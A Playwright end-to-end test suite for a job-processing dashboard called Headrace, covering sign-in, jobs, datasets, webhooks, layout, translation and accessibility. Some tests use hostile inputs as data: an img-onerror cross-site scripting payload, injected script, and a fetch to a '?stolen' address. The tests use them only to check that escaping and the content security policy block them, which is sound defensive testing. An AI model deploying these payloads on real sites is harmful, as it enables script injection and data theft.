"""Stories of the pages, in a real browser before real processes."""

import os
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, FilePayload, Page, Route, expect

from tests.dashboard import browser
from tests.dashboard.browser import Visit, check, tab, visiting
from tests.dashboard.site import PASSWORD, Person, Site, gated_job
from tests.support.waiting import until

browser.skip_without()

pytestmark = pytest.mark.asyncio(loop_scope="module")

TEXTS = ["What a lovely day", "I want my money back, this is awful", "It is a kettle", "هذا رائع"]
HOSTILE = "<img src=x onerror=\"document.title='owned'\">"
PAGES = (
    "",
    "jobs",
    "new",
    "dead-letters",
    "settings",
    "models",
    "models/sentiment",
    "models/sentiment/compare",
    "datasets",
    "schedules",
    "schedules/new",
    "notifications",
    "wall",
)
WIDTHS = (360, 1024, 1440, 3840)

# Text nodes and attributes that people read, in the order of the document.
READ = """() => {
    const names = "noscript, bdi, code, pre, kbd, .mono, time, .time, svg, [hidden], .plain," +
        " [lang]:not(html)";
    const found = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
        const { parentElement: parent, textContent: text } = walker.currentNode;
        if (text.trim() && !parent.closest(names)) {
            found.push(text.trim());
        }
    }
    for (const element of document.querySelectorAll("[aria-label], [title], [placeholder]")) {
        if (!element.closest("time, bdi, [hidden], [lang]:not(html), table")) {
            for (const name of ["aria-label", "title", "placeholder"]) {
                if (element.getAttribute(name)) { found.push(element.getAttribute(name)); }
            }
        }
    }
    return found;
}"""

# What is the same in every language: names, numbers, units of computers, marks.
SAME = re.compile(
    r"^(Headrace|[\d\s,.:%·+/–-]*|UTC|curl|Python|JSON|CSV|p\d\d.*|[A-Z]{1,2}|中|EN|…|[a-z_]+|#|default.*"
    r"|JSON Lines|Parquet|sentiment.*|batch_predict|English|简体中文|(vader|sklearn|onnx) .*|URL.*"
    r"|[a-z_]+[.][a-z_]+|https://|VADER: .*)$"
)

OVERFLOW = """() => {
    const { scrollWidth } = document.documentElement;
    const wide = scrollWidth > innerWidth ? [`page ${scrollWidth}`] : [];
    const all = [...document.querySelectorAll("button, .button, .tab, .tag, h1, h2, th")];
    const cut = all.filter((element) => {
        const { overflow, display } = getComputedStyle(element);
        const isShown = element.offsetParent !== null && !element.closest(".unseen, .scroll, [hidden]");
        const isFixed = overflow !== "hidden" && display !== "inline";
        return isShown && isFixed && element.scrollWidth > element.clientWidth + 2;
    });
    const told = cut.map(({ tagName, className, textContent }) =>
        `${tagName} ${className} ${textContent.slice(0, 40)}`);
    return [...wide, ...told];
}"""


async def test_a_wrong_password_is_refused_in_words_and_the_right_one_stays_after_a_reload(
    visit: Visit, ada: Person
) -> None:
    await visit.open()
    await visit.sign_in(ada, "not her password")
    await expect(visit.alert).to_have_text("Wrong username or password.")

    await visit.sign_in(ada)

    await expect(visit.page.get_by_role("heading", level=1)).to_have_text("Overview")
    kept = await visit.page.evaluate("[Object.keys(sessionStorage), document.cookie]")
    assert kept == [[], ""]  # nothing that a script can read holds a token
    await visit.page.reload()
    await expect(visit.page.get_by_role("heading", level=1)).to_have_text("Overview")


async def test_two_tabs_refresh_at_once_and_sign_out_together(visit: Visit, ada: Person) -> None:
    await visit.enter(ada)
    other = await tab(visit.page.context, visit.site)
    await other.open("jobs")
    await expect(other.page.get_by_role("heading", level=1)).to_have_text("Jobs")
    await visit.page.reload()
    await other.page.reload()
    await expect(visit.connection).to_contain_text("Live")
    await expect(other.connection).to_contain_text("Live")

    await visit.page.get_by_role("button", name="Sign out").click()

    for one in (visit, other):
        await expect(one.page.get_by_label("Username")).to_be_visible()
    check(other)


async def test_every_address_opens_cold_and_by_link_with_one_heading_and_its_title(
    visit: Visit, ada: Person
) -> None:
    await visit.enter(ada, "jobs?status=failed")
    await expect(visit.page.get_by_role("heading", level=1)).to_have_text("Jobs")
    assert "status=failed" in visit.page.url
    titles = {
        "": "Overview",
        "jobs": "Jobs",
        "new": "New job",
        "dead-letters": "Dead letters",
        "settings": "Settings",
    }
    titles |= {
        "models": "Models",
        "datasets": "Datasets",
        "schedules": "Schedules",
        "models/sentiment": "sentiment",
        "models/sentiment/compare": "Compare: sentiment",
    }
    titles |= {"notifications": "Notifications", "admin/users": "Admin", "wall": "Wall display"}
    titles |= {"nothing/here": "Page not found"}
    for path, title in titles.items():
        for way in ("cold", "link"):
            if way == "cold":
                await visit.open(path)
            else:
                await visit.page.evaluate(
                    "url => navigation.navigate(url)", f"{visit.site.url}/dashboard/settings"
                )
                await expect(visit.page.get_by_role("heading", level=1)).to_have_text("Settings")
                await visit.page.evaluate(
                    "url => navigation.navigate(url)", f"{visit.site.url}/dashboard/{path}"
                )
            await expect(visit.page.get_by_role("heading", level=1)).to_have_text(title)
            await expect(visit.page).to_have_title(f"{title} · Headrace")
            assert await visit.page.locator("h1").count() == 1
            await expect(visit.page.locator("h1")).to_be_focused()
    for address, end in (
        ("", "/dashboard/"),
        ("scheduler/", "/dashboard/schedules"),
        ("watch", "/dashboard/"),
    ):
        await visit.page.goto(f"{visit.site.url}/{address}")
        await expect(visit.page).to_have_url(f"{visit.site.url}{end}")


async def test_texts_are_submitted_and_their_predictions_are_those_of_the_api(
    visit: Visit, ada: Person
) -> None:
    await visit.enter(ada, "new")
    await visit.page.get_by_label("Texts, one per line").fill("\n".join([*TEXTS, HOSTILE]))
    await visit.page.get_by_label("Batch size").fill("2")
    await visit.page.get_by_label("Priority").select_option("high")
    await visit.page.get_by_role("button", name="Run job").dblclick()

    await expect(visit.page.locator(".job-head .facts .state")).to_have_text("Completed")
    await expect(visit.page.locator(".results tbody tr:not(.more)")).to_have_count(5)
    [job] = (await ada.ask("GET", "/jobs"))["items"]
    assert job["priority"] == "high"
    found = await ada.ask("GET", f"/jobs/{job['job_id']}/results")
    shown = await visit.page.locator(".results tbody tr:not(.more)").evaluate_all(
        "rows => rows.map(row => [row.cells[1].textContent, row.cells[2].textContent])"
    )
    assert shown == [
        [text, item["prediction"]["label"]]
        for text, item in zip([*TEXTS, HOSTILE], found["items"], strict=True)
    ]
    await expect(visit.page.locator(".ledger span.flow")).to_have_count(3)
    assert await visit.page.locator("main img, main script").count() == 0
    assert await visit.page.title() == "Batch prediction sentiment@1 · Headrace"


async def test_a_submission_whose_answer_was_lost_is_one_job(visit: Visit, ada: Person) -> None:
    async def lose_the_answer(route: Route) -> None:
        await route.fetch()
        await route.abort()

    await visit.enter(ada, "new")
    await visit.page.get_by_label("Texts, one per line").fill("one")
    await visit.page.route("**/jobs/batch-predict", lose_the_answer, times=1)
    await visit.page.get_by_role("button", name="Run job").click()
    await expect(visit.alert).to_have_text("Cannot reach the server.")

    await visit.page.get_by_role("button", name="Run job").click()

    await expect(visit.page.locator(".job-head .facts .state")).to_have_text("Completed")
    assert len((await ada.ask("GET", "/jobs"))["items"]) == 1


async def test_a_field_that_is_not_valid_says_so_and_keeps_its_content(visit: Visit, ada: Person) -> None:
    visit.expected |= {422}
    await visit.enter(ada, "new")
    await visit.page.get_by_label("Texts, one per line").fill("one")
    await visit.page.get_by_label("Queue").fill("not a queue!")
    await visit.page.get_by_role("button", name="Run job").click()

    await expect(visit.page.get_by_label("Queue")).to_be_focused()
    await expect(visit.page.get_by_label("Queue")).to_have_attribute("aria-invalid", "true")
    await expect(visit.page.get_by_label("Texts, one per line")).to_have_value("one")


async def test_the_counts_are_those_of_the_database(
    visit: Visit, ada: Person, the_site: Site, tmp_path: Path
) -> None:
    for _ in range(3):
        await ada.ask("POST", "/jobs/batch-predict", json={"texts": ["fine"]})
    await ada.ask("POST", "/jobs/batch-predict", json={"instances": [{"text": 4}], "max_row_errors": 0})
    await ada.ask("POST", "/jobs/batch-predict", json={"texts": ["fine"], "queue": "nobody"})

    async def is_quiet() -> bool:
        counts = await ada.ask("GET", "/jobs/counts")
        return bool(counts["completed"] == 3 and counts["failed"] == 1)

    await until(is_quiet)
    await visit.enter(ada, "jobs")
    for state in ("pending", "running", "completed", "failed", "cancelled"):
        count = await the_site.fetch(
            """SELECT count(*) FROM jobs j JOIN users u ON u.id = j.owner_id
            WHERE u.username = $1 AND j.status = $2""",
            *(ada.name, state),
        )
        await expect(visit.count_of(state.capitalize())).to_have_text(str(count))
    await expect(visit.rows).to_have_count(5)
    await expect(
        visit.page.locator(".jobs-table .details", has_text="no worker for queue nobody")
    ).to_have_count(1)
    await expect(visit.page.locator("#nav .dead .count")).to_have_text("1")
    await expect(visit.page).to_have_title("(1) Jobs · Headrace")
    await visit.open()
    await expect(visit.page.locator(".stage", has_text="completed").locator(".figure")).to_have_text("3")
    await expect(visit.page.locator(".rate")).to_have_text("75% success rate over 1 hour")
    await expect(visit.page.locator(".attention")).to_contain_text("1 job failed permanently")
    await expect(visit.page.locator(".attention")).to_contain_text(
        "No worker serves the queue “nobody” (1 pending)"
    )


async def test_the_time_a_job_has_waited_grows_and_the_top_bar_fills_its_width(
    visit: Visit, ada: Person
) -> None:
    body = {"texts": ["fine"], "queue": "nobody"}
    created = await ada.ask("POST", "/jobs/batch-predict", json=body)
    await visit.enter(ada, f"jobs/{created['job_id']}")

    waited = visit.page.locator(".timeline .segment .label")
    await expect(waited).to_contain_text("queued, ")
    before = await waited.inner_text()
    await expect(waited).not_to_have_text(before)

    bar, last = [await visit.page.locator(one).bounding_box() for one in ("#top", "#top > :last-child")]
    assert bar is not None
    assert last is not None
    assert bar["x"] + bar["width"] - last["x"] - last["width"] < 40
    await visit.page.set_viewport_size({"width": 360, "height": 740})
    await visit.page.evaluate("document.querySelector('#top .connection .label').textContent = 'Connecting…'")
    assert await visit.page.evaluate("document.documentElement.scrollWidth") <= 360


async def test_jobs_are_filtered_ticked_and_cancelled_in_bulk(visit: Visit, ada: Person) -> None:
    for number in range(5):
        body = {"texts": ["fine"], "queue": "nobody", "metadata": {"team": "a" if number < 3 else "b"}}
        await ada.ask("POST", "/jobs/batch-predict", json=body)
    await visit.enter(ada, "jobs")
    await expect(visit.rows).to_have_count(5)
    queues = visit.page.get_by_label("Queue", exact=True).locator("option")
    await expect(queues).to_have_text(["Any", "default", "nobody"])
    await visit.page.get_by_placeholder("ID, model, or metadata key=value").fill("team=a")
    await expect(visit.rows).to_have_count(3)

    await visit.rows.first.get_by_role("checkbox").check()
    await visit.page.get_by_role("button", name="Select all 3 matching").click()
    await visit.page.locator(".bulk").get_by_role("button", name="Cancel job").click()
    dialog = visit.page.get_by_role("dialog")
    await expect(dialog).to_contain_text("3 pending and 0 running will be cancelled.")
    await expect(dialog.get_by_role("button", name="Keep it")).to_be_focused()
    await dialog.get_by_role("button", name="Cancel job").click()

    await expect(visit.count_of("Cancelled")).to_have_text("3")
    counts = await ada.ask("GET", "/jobs/counts")
    assert (counts["cancelled"], counts["pending"]) == (3, 2)


async def test_a_failed_job_is_found_read_and_retried_with_the_keyboard_alone(
    visit: Visit, ada: Person
) -> None:
    visit.expected |= {409}  # counts of results that were asked for just before the job ran again
    created = await ada.ask(
        "POST", "/jobs/batch-predict", json={"instances": [{"text": 4}], "max_row_errors": 0}
    )
    await visit.enter(ada)

    async def has_failed() -> bool:
        return bool((await ada.ask("GET", f"/jobs/{created['job_id']}"))["status"] == "failed")

    await until(has_failed)
    press = visit.page.keyboard.press
    await visit.page.locator("h1").focus()
    await press("g")
    await press("j")
    await expect(visit.page.locator("h1")).to_have_text("Jobs")
    await expect(visit.rows).to_have_count(1)
    await press("j")
    await expect(visit.rows.locator("a")).to_be_focused()
    await press("Enter")
    await expect(visit.page.locator(".job-fault")).to_contain_text("too_many_row_errors")
    await visit.page.get_by_role("button", name="Retry from checkpoint").first.focus()
    await press("Enter")
    await expect(visit.page.get_by_role("dialog")).to_be_visible()
    await press("Tab")
    await press("Enter")

    await expect(visit.page.locator(".toast")).to_contain_text("Job requeued")

    async def is_retried() -> bool:
        return any(kind == "retried" for _, _, kind in await ada.events(created["job_id"]))

    await until(is_retried)


async def test_a_dataset_is_uploaded_described_predicted_on_and_deleted(visit: Visit, ada: Person) -> None:
    content = b"review,stars\n" + b"What a lovely day,5\nI want my money back,1\n" * 20
    visit.expected |= {409, 422}
    await visit.enter(ada, "datasets")
    choose = visit.page.locator("input[type=file]")
    await choose.set_input_files(
        [
            FilePayload(name="reviews.csv", mimeType="text/csv", buffer=content),
            FilePayload(name="bad.csv", mimeType="text/csv", buffer=b"a,b\n1,2\n3\n"),
        ]
    )
    await expect(visit.page.get_by_role("alert")).to_contain_text("Line 3")
    await visit.page.get_by_role("link", name="reviews.csv").click()
    await expect(visit.page.locator("h1")).to_have_text("reviews.csv")
    await expect(visit.page.get_by_role("table", name="Columns").get_by_role("row")).to_have_count(3)
    await expect(visit.page.get_by_role("table", name="First 20 rows").get_by_role("row")).to_have_count(21)

    await visit.page.get_by_role("link", name="Predict on this dataset").click()
    await expect(visit.page.get_by_label("Dataset", exact=True)).to_have_value(re.compile("[0-9a-f-]{36}"))
    await visit.page.get_by_label("Text column").fill("review")
    await visit.page.get_by_role("button", name="Run job").click()

    await expect(visit.page.locator(".job-head .facts .state")).to_have_text("Completed")
    await expect(visit.page.locator(".results tbody tr:not(.more)").first).to_contain_text(
        "What a lovely day"
    )
    await visit.page.get_by_role("link", name="Dataset reviews.csv").click()
    async with visit.page.expect_download() as download:
        await visit.page.get_by_role("button", name="Download").click()
    assert (await (await download.value).path()).read_bytes() == content
    await visit.page.get_by_role("button", name="Delete").click()
    await visit.page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    await expect(visit.page.locator("h1")).to_have_text("Datasets")
    assert (await ada.ask("GET", "/datasets"))["items"] == []


async def test_a_training_shows_its_curves_and_its_model_can_be_tried(visit: Visit, ada: Person) -> None:
    sizes = [row * 7 % 60 + 0.5 for row in range(60)]
    rows = [{"size": size, "kind": "large" if size > 30 else "small"} for size in sizes]
    body = {"rows": rows, "target": "kind", "algorithm": "mlp", "epochs": 3, "params": {"patience": 0}}
    created = await ada.ask("POST", "/jobs/train-model", json={**body, "model": "sizes"})
    await visit.enter(ada, f"jobs/{created['job_id']}")

    await expect(visit.page.locator(".job-head .facts .state")).to_have_text("Completed")
    await expect(visit.page.locator(".curves .line")).to_have_count(3)
    await expect(visit.page.locator(".ledger span.flow")).to_have_count(3)
    await visit.page.get_by_role("tab", name="Metrics").click()
    await visit.page.get_by_role("link", name="sizes@1").click()
    await expect(visit.page.locator("h1")).to_have_text("sizes")
    await visit.page.get_by_label("Rows, as JSON or CSV").fill('{"size": 50.5}')
    await visit.page.get_by_role("button", name="Predict", exact=True).click()
    await expect(visit.page.locator(".json pre").last).to_contain_text('"large"')


async def test_a_webhook_shows_its_secret_once_and_its_deliveries(visit: Visit, ada: Person) -> None:
    visit.expected |= {422}
    await visit.enter(ada, "notifications")
    await visit.page.locator("summary", has_text="New subscription").click()
    await visit.page.get_by_label("Name").fill("pager")
    await visit.page.get_by_label("URL (https)").fill("https://127.0.0.1/hook")
    await visit.page.get_by_role("button", name="New subscription").click()
    await expect(visit.alert).to_have_text("This URL points to a private network and is not allowed.")

    await visit.page.get_by_label("URL (https)").fill("https://example.com/hook")
    await visit.page.get_by_role("button", name="New subscription").click()

    secret = await visit.page.locator(".secret code").inner_text()
    assert len(secret) > 20
    await visit.page.get_by_role("dialog").get_by_role("button", name="Close").click()
    await visit.page.get_by_role("link", name="pager").click()
    await expect(visit.page.locator("h1")).to_have_text("pager")
    assert secret not in await visit.main.inner_text()
    await expect(visit.page.locator("main .tag", has_text="Job failed")).to_be_visible()
    await visit.page.get_by_role("button", name="Delete").click()
    await visit.page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    await expect(visit.page.locator("h1")).to_have_text("Notifications")
    assert (await ada.ask("GET", "/subscriptions"))["items"] == []


async def test_only_administrators_see_users_and_the_audit_log(
    visit: Visit, ada: Person, the_site: Site
) -> None:
    await visit.enter(ada, "admin/users")
    await expect(visit.main).to_contain_text("This requires the Administrator role.")
    await expect(visit.page.locator("#nav .admin")).to_have_count(0)
    await visit.page.get_by_role("button", name="Sign out").click()
    await the_site.fetch("UPDATE users SET role = 'admin' WHERE username = $1 RETURNING id", ada.name)

    await visit.enter(ada, "admin/users")

    await expect(visit.page.locator("#nav .admin")).to_be_visible()
    await expect(visit.page.get_by_role("rowheader", name=ada.name)).to_be_visible()
    await expect(visit.page.get_by_label(f"Role: {ada.name}")).to_be_disabled()
    await visit.page.get_by_role("link", name="Audit log").click()
    await expect(visit.page.get_by_role("table", name="Audit log")).to_contain_text("Signed in")


async def test_a_schedule_is_paused_and_shows_its_next_runs(visit: Visit, ada: Person) -> None:
    trigger = {"daily": {"at": "09:00"}}
    job = {"kind": "batch_predict", "texts": ["fine"]}
    body = {"name": "nightly", "trigger": trigger, "timezone": "Europe/Berlin", "job": job}
    schedule_id = (await ada.ask("POST", "/schedules", json=body))["schedule_id"]
    created = await ada.ask("GET", f"/schedules/{schedule_id}")
    await visit.enter(ada, "schedules")
    await visit.page.get_by_role("link", name="nightly").click()
    await expect(visit.page.locator("h1")).to_have_text("nightly")
    times = visit.page.locator("ol.fires time")
    await expect(times).to_have_count(10)
    assert [await times.nth(index).get_attribute("datetime") for index in range(5)] == created["next_fires"]
    await expect(times.first).to_contain_text("09:00")

    await visit.page.get_by_role("button", name="More actions").click()
    await visit.page.get_by_role("menuitem", name="Pause").click()

    await expect(visit.page.locator("main .tag").first).to_have_text("paused")
    assert (await ada.ask("GET", f"/schedules/{created['schedule_id']}"))["status"] == "paused"


@pytest.mark.parametrize("language", ["en", "zh-CN"])
@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_no_page_is_wider_than_the_screen_or_cuts_a_text(
    the_browser: Browser, the_site: Site, ada: Person, theme: str, language: str
) -> None:
    await ada.ask("POST", "/jobs/batch-predict", json={"texts": ["w" * 300, "fine"]})
    [job] = (await ada.ask("GET", "/jobs"))["items"]
    async with visiting(the_browser, the_site) as visit:
        await visit.enter(ada)
        kept = {"theme": theme, "language": language}
        await visit.page.evaluate(
            "kept => localStorage.setItem('headrace.preferences', JSON.stringify(kept))", kept
        )
        for path in (*PAGES, f"jobs/{job['job_id']}"):
            await visit.open(path)
            await expect(visit.page.locator("#main h1")).to_be_visible()
            await expect(visit.page.locator("html")).to_have_attribute("lang", language)
            await expect(visit.page.locator("html")).to_have_attribute("data-theme", theme)
            for width in WIDTHS:
                await visit.page.set_viewport_size({"width": width, "height": 900})
                assert await visit.page.evaluate(OVERFLOW) == [], (path, width)


async def test_every_text_is_in_the_language_that_was_chosen(visit: Visit, ada: Person) -> None:
    await ada.ask("POST", "/jobs/batch-predict", json={"texts": ["fine"]})
    [job] = (await ada.ask("GET", "/jobs"))["items"]
    await visit.enter(ada)
    await visit.page.locator("#top .language").click()
    await expect(visit.page.locator("html")).to_have_attribute("lang", "zh-CN")
    await expect(visit.page.locator("h1")).to_have_text("总览")
    for path in (*PAGES, f"jobs/{job['job_id']}"):
        await visit.open(path)
        await expect(visit.page.locator("#main h1")).to_be_visible()
        await expect(visit.page.locator(".skeleton")).to_have_count(0)
        read = await visit.page.evaluate(READ)
        assert not [text for text in read if "⟦" in text], path
        english = [text for text in read if re.search("[a-zA-Z]{3}", text) and not re.search("[一-鿿]", text)]
        assert [text for text in english if not SAME.match(text) and ada.name not in text] == [], path


@pytest.mark.parametrize("scheme", ["light", "dark", "forced"])
async def test_axe_finds_nothing(the_browser: Browser, the_site: Site, ada: Person, scheme: str) -> None:
    from axe_playwright_python.async_playwright import Axe  # slow to import

    await ada.ask("POST", "/jobs/batch-predict", json={"instances": [{"text": 4}], "max_row_errors": 0})
    [job] = (await ada.ask("GET", "/jobs"))["items"]
    options: dict[str, Any] = {"forced_colors": "active"} if scheme == "forced" else {"color_scheme": scheme}
    async with visiting(the_browser, the_site, **options) as visit:
        await visit.open()
        await expect(visit.page.get_by_label("Username")).to_be_visible()
        assert await violations(Axe(), visit.page) == []
        await visit.sign_in(ada)
        for path in (*PAGES, f"jobs/{job['job_id']}"):
            await visit.open(path)
            await expect(visit.page.locator("#main h1")).to_be_visible()
            await expect(visit.page.locator(".skeleton")).to_have_count(0)
            assert await violations(Axe(), visit.page) == [], path


async def violations(axe: Any, page: Page) -> list[str]:
    found = await axe.run(page)
    return [
        f"{one['id']}: {node['html'][:160]}" for one in found.response["violations"] for node in one["nodes"]
    ]


async def test_the_theme_is_kept_and_right_in_the_first_frame(visit: Visit, ada: Person) -> None:
    await visit.enter(ada)
    await visit.page.locator("#top .theme").click()
    await expect(visit.page.locator("html")).to_have_attribute("data-theme", "light")
    await visit.page.locator("#top .theme").click()
    await expect(visit.page.locator("html")).to_have_attribute("data-theme", "dark")
    # Before any module runs.
    await visit.page.route("**/main.js", lambda route: route.abort())
    await visit.page.goto(f"{visit.site.url}/dashboard/", wait_until="commit")
    await expect(visit.page.locator("html")).to_have_attribute("data-theme", "dark")
    visit.console.clear()


@pytest.mark.parametrize("status", [500, 403, 404, 429, 503])
async def test_a_panel_that_cannot_be_loaded_says_why(visit: Visit, ada: Person, status: int) -> None:
    visit.expected |= {status}
    code = {
        500: "internal_error",
        403: "forbidden",
        404: "not_found",
        429: "rate_limited",
        503: "database_unavailable",
    }
    body = {"status": status, "code": code[status], "detail": "…", "request_id": "01a2279f"}

    async def refuse(route: Route) -> None:
        more = {"Retry-After": "8"} if status in (429, 503) else {}
        await route.fulfill(
            status=status, json=body, headers={"Content-Type": "application/problem+json", **more}
        )

    await visit.enter(ada)
    await visit.page.route(re.compile(r"/jobs\?"), refuse, times=1)
    await visit.page.get_by_role("link", name="Jobs").first.click()

    fault = visit.page.locator(".list-panel .fault")
    sentences = {
        500: "Something went wrong on the server.",
        403: "You do not have permission to do this.",
        404: "Not found.",
        429: "Too many requests. Try again in 8 s.",
        503: "The database cannot be reached. Nothing is lost; try again shortly.",
    }
    await expect(fault).to_contain_text(sentences[status])
    await expect(fault).to_contain_text("Request ID 01a2279f")
    if status in (429, 503):  # it counts down, and tries by itself
        await expect(fault).to_have_count(0)
        await expect(visit.page.locator(".list-panel .empty")).to_be_visible()
    elif status == 500:
        await fault.get_by_role("button", name="Try again").click()
        await expect(visit.page.locator(".list-panel .empty")).to_be_visible()


RUN_A_JOB = """() => {
    const texts = document.querySelector("#main textarea");
    if (texts === null) {
        document.querySelector("#nav a[href$='new']").click();
    } else {
        texts.value = "a draft";
        texts.form.requestSubmit();
    }
}"""


async def test_a_session_that_has_ended_is_continued_in_a_dialog(
    visit: Visit, ada: Person, the_site: Site
) -> None:
    await visit.enter(ada, "new")
    await expect(visit.page.get_by_label("Texts, one per line")).to_be_visible()
    await the_site.fetch(
        """UPDATE sessions s SET ended_at = now() FROM users u
        WHERE u.id = s.user_id AND u.username = $1 RETURNING s.id""",
        ada.name,
    )

    async def is_asked() -> bool:
        if await visit.page.get_by_role("dialog").is_visible():
            return True
        await visit.page.evaluate(RUN_A_JOB)  # the API knows a session for some seconds after it has ended
        return False

    await until(is_asked)
    dialog = visit.page.get_by_role("dialog")
    await expect(dialog).to_contain_text("Your session has expired.")
    await dialog.get_by_label("Password", exact=True).fill(PASSWORD)
    await dialog.get_by_role("button", name="Sign in").click()
    await expect(dialog).to_have_count(0)

    # What was asked for goes on: a job that was being created, or the form that was being loaded.
    texts = visit.page.get_by_label("Texts, one per line")
    state = visit.page.locator(".job-head .facts .state")
    await expect(texts.or_(state).first).to_be_visible()
    if await texts.is_visible() and not await state.is_visible():
        await visit.page.evaluate(RUN_A_JOB)
    await expect(state).to_have_text("Completed")


async def test_the_policy_blocks_what_somebody_might_inject(visit: Visit, ada: Person) -> None:
    await visit.enter(ada)
    await visit.page.evaluate(
        """async () => {
            const script = document.createElement("script");
            try { script.textContent = 'document.title = "owned"'; document.body.append(script); } catch {}
            const image = '<img src=x onerror="document.title = `owned`">';
            try { document.body.insertAdjacentHTML("beforeend", image); } catch {}
            await fetch("http://127.0.0.1:9/?stolen").catch(() => {});
        }"""
    )

    async def has_complained() -> bool:
        return len(visit.console) >= 3

    await until(has_complained)
    assert "owned" not in await visit.page.title()
    said = " ".join(visit.console)
    assert "TrustedHTML" in said or "trusted-types" in said.lower() or "TrustedScript" in said
    assert "connect-src 'self'" in said
    visit.console.clear()
    visit.requests[:] = [url for url in visit.requests if "stolen" not in url]


async def test_a_cancelled_job_keeps_what_it_had_stored(visit: Visit, ada: Person, tmp_path: Path) -> None:
    job = await gated_job(ada, tmp_path, batches=8)
    job.let(3)
    await visit.enter(ada)
    await visit.follow(job.id)
    await expect(visit.page.locator(".ledger span.flow")).to_have_count(3)

    await visit.page.locator(".job-title").get_by_role("button", name="Cancel job").click()
    await visit.page.get_by_role("dialog").get_by_role("button", name="Cancel job").click()

    await expect(visit.page.locator(".job-head .facts .state")).to_have_text("Cancelled")
    await expect(visit.page.locator(".job-title").get_by_role("button", name="Cancel job")).to_have_count(0)
    assert (await ada.ask("GET", f"/jobs/{job.id}"))["status"] == "cancelled"
    await expect(visit.page.locator(".activity strong").first).to_have_text("Cancelled")


async def test_the_pictures_of_the_readme_are_small_and_of_this_dashboard(
    visit: Visit, ada: Person, tmp_path: Path
) -> None:
    """With `README_PICTURES=1` it makes them anew."""
    job = await gated_job(ada, tmp_path, batches=100)
    for _ in range(12):
        await ada.ask("POST", "/jobs/batch-predict", json={"texts": TEXTS[:3]})
    job.let(63)
    await visit.page.set_viewport_size({"width": 1280, "height": 720})
    await visit.enter(ada)
    await expect(visit.page.locator(".stage", has_text="completed").locator(".figure")).to_have_text("12")
    pictures = {"overview.png": await visit.page.screenshot()}
    await visit.follow(job.id)
    await expect(visit.page.locator(".percent strong")).to_have_text("63")
    pictures["job.png"] = await visit.page.screenshot()

    folder = Path(__file__).parents[2] / "docs/images"
    for name, picture in pictures.items():
        assert len(picture) <= 150_000
        if "README_PICTURES" in os.environ:
            (folder / name).write_bytes(picture)
        assert (folder / name).stat().st_size <= 150_000
    job.let(100)
